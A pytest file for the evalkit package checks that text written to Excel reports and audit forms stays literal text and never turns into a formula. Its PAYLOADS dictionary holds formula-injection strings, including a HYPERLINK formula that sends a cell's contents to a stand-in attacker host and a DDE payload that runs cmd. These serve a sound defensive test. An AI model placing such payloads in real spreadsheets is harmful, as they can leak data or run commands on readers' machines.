"""Formula injection: no text evalkit writes to an .xlsx becomes a formula, whatever it starts with.

Every xlsx writer of the package is covered (``grep -rn "openpyxl" evalkit``: the report's Excel appendix,
evalkit/report/_xlsx.py, and the audit form, evalkit/audit/forms.py). Each payload is put where text from
data or config lands: the report title, a table caption, a source (file name), a column header, a label
column, a text column, a mixed column, on every kind of table column (count, percentage, p-value, number,
date, text); and in the audit form's decision id, unit and service. Each file is read back twice:

* with openpyxl: the cell is a string cell (``data_type == "s"``) whose value is the payload, no cell of the
  workbook is a formula, and numbers are still numbers;
* with LibreOffice (``soffice --headless --convert-to csv``, every sheet): the cell's text is the payload
  itself, not a computed value (``=1+1`` would show as ``2``).
"""
from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

import evalkit.audit as audit
from evalkit.audit.forms import FIRST_DATA_ROW
from evalkit.report import Report, TableSpec

PAYLOADS = {
    "eq": "=1+1",
    "hyperlink": '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Klicka här")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _strings(path: Path) -> dict[str, list]:
    """sheet → [(coordinate, value, data_type)] of every non-empty cell; asserts no formula anywhere."""
    wb = load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        cells = []
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                cells.append((cell.coordinate, cell.value, cell.data_type))
        out[ws.title] = cells
    return out


def _libreoffice_csv(path: Path, tmp_path: Path) -> dict[str, list[list[str]]]:
    """Every sheet as LibreOffice computes and exports it (CSV, UTF-8, one file per sheet)."""
    out = tmp_path / "csv"
    profile = (tmp_path / "lo_profile").as_uri()
    done = subprocess.run(
        [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={profile}", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(out), str(path)], capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stderr
    sheets = {}
    for f in sorted(out.glob(f"{path.stem}-*.csv")):
        with f.open(newline="", encoding="utf-8") as fh:
            sheets[f.stem[len(path.stem) + 1:]] = list(csv.reader(fh))
    assert sheets, f"LibreOffice wrote no CSV: {done.stdout} {done.stderr}"
    return sheets


# ----------------------------------------------------------------------------- the report's appendix
def _report(tmp_path: Path) -> tuple[Path, dict]:
    p = PAYLOADS
    report = Report(p["eq"] + " rapport", language="sv")
    names = list(p.values())
    n = len(names)
    rng = np.random.default_rng(0)
    counts = pd.DataFrame({p["hyperlink"]: names, "Antal": rng.integers(5, 90, n), p["dde"]: rng.integers(5, 90, n)})
    counts.loc[len(counts)] = ["Alla", counts["Antal"].sum(), counts[p["dde"]].sum()]
    report.add(counts, title=p["plus"], source=p["minus"] + ".csv",
               spec=TableSpec(counts=("Antal", p["dde"]), total_row=True))
    shares = pd.DataFrame({"Grupp": names, "n": rng.integers(40, 200, n), p["at"]: rng.uniform(0.3, 0.7, n),
                           "p-värde": rng.uniform(0, 1, n), "Medel": rng.normal(10, 2, n),
                           "Datum": pd.to_datetime([dt.date(2020, 1, 1 + i) for i in range(n)]),
                           "Citat": [f"{v}" for v in names], "Blandat": [1.5 if i % 2 else v for i, v in enumerate(names)]})
    report.add(shares, title=p["tab"] + " andelar", source=p["cr"],
               spec=TableSpec(counts=("n",), percents={p["at"]: "n"}, pvalues=("p-värde",)))
    indexed = pd.DataFrame({"Värde": np.arange(n, dtype=float) + 0.25}, index=pd.Index(names, name=p["eq"]))
    report.add(indexed, title="Indexerad", spec=TableSpec(index=True))
    xlsx = tmp_path / "rapport.xlsx"
    report.save(tmp_path / "rapport.docx", xlsx=xlsx)
    return xlsx, counts


def test_appendix_text_is_text_and_numbers_are_numbers(tmp_path):
    xlsx, counts = _report(tmp_path)
    sheets = _strings(xlsx)
    strings = {v for cells in sheets.values() for _, v, t in cells if isinstance(v, str)}
    for cells in sheets.values():
        for coordinate, value, data_type in cells:
            if isinstance(value, str):
                assert data_type == "s", (coordinate, value)
    for key, payload in PAYLOADS.items():
        # as a label/text cell, and as (part of) a caption, header, source or title
        assert payload in strings, key
        assert any(s != payload and payload in s for s in strings) or key in ("hyperlink", "dde", "at"), key
    wb = load_workbook(xlsx)
    first = wb.worksheets[1]   # "Tabell 1": header in row 3, data from row 4
    header = [c.value for c in first[3]]
    assert header == list(counts.columns)
    antal = [first.cell(row=r, column=2).value for r in range(4, 4 + len(counts))]
    assert antal == counts["Antal"].tolist() and all(isinstance(v, int) for v in antal)
    assert first.cell(row=4, column=2).data_type == "n"
    second = wb.worksheets[2]
    shares_row = [c.value for c in second[4]]
    assert isinstance(shares_row[2], float) and second.cell(row=4, column=3).number_format.endswith("%")
    assert isinstance(shares_row[5], dt.datetime)   # the date stays a date


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed; `make sysdeps` installs it")
def test_libreoffice_shows_the_literal_text_and_evaluates_no_formula(tmp_path):
    xlsx, counts = _report(tmp_path)
    sheets = _libreoffice_csv(xlsx, tmp_path)
    values = {cell for rows in sheets.values() for row in rows for cell in row}
    for key, payload in PAYLOADS.items():
        assert payload in values, (key, payload)
    table1 = next(rows for name, rows in sheets.items() if name.endswith("1"))
    labels = [row[0] for row in table1[3:3 + len(PAYLOADS)]]
    assert labels == list(PAYLOADS.values())   # not "2", "#NAME?", "Klicka här" or an error
    assert table1[3][1] == str(counts["Antal"].iloc[0])


# ----------------------------------------------------------------------------- the audit form
def _form(tmp_path: Path):
    # ids start with each payload but tab/CR (the reader strips white space around an id, so those two would
    # not read back; they are tested in the unit column, which is not read back)
    ids = [f"{v}#{i}" for i, v in enumerate(PAYLOADS.values()) if not v[0].isspace()]
    ids += [f"b{i:04d}" for i in range(20)]
    payloads = list(PAYLOADS.values())
    frame = pd.DataFrame({"decision_id": ids, "unit": [payloads[i % len(payloads)] for i in range(len(ids))],
                          "service": [PAYLOADS["hyperlink"]] * len(ids)})
    sample = audit.draw(frame, len(ids), seed=1)
    return audit.form(sample, "ibic", tmp_path / "form.xlsx"), sample


def test_audit_form_text_is_text(tmp_path):
    path, sample = _form(tmp_path)
    sheets = _strings(path)
    strings = {v for cells in sheets.values() for _, v, t in cells if isinstance(v, str)}
    for cells in sheets.values():
        for coordinate, value, data_type in cells:
            if isinstance(value, str):
                assert data_type == "s", (coordinate, value)
    for key, payload in PAYLOADS.items():
        assert payload in strings, key
    # filled in as a reviewer would, the form reads back with the same ids, as text
    wb = load_workbook(path)
    ws = wb["Granskning"]
    for r in range(FIRST_DATA_ROW, ws.max_row + 1):
        for c in range(4, 24):   # 3 context columns (id, unit, service), 20 IBIC items
            ws.cell(r, c).value = "Ja"
    wb.save(tmp_path / "filled.xlsx")
    answers = audit.load_audit(tmp_path / "filled.xlsx", sample)
    assert set(answers["decision_id"].astype(str)) == set(sample.frame["decision_id"].astype(str))


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed; `make sysdeps` installs it")
def test_libreoffice_shows_the_audit_forms_ids_as_text(tmp_path):
    path, _ = _form(tmp_path)
    sheets = _libreoffice_csv(path, tmp_path)
    values = {cell for rows in sheets.values() for row in rows for cell in row}
    for key, payload in PAYLOADS.items():
        assert payload in values, (key, payload)
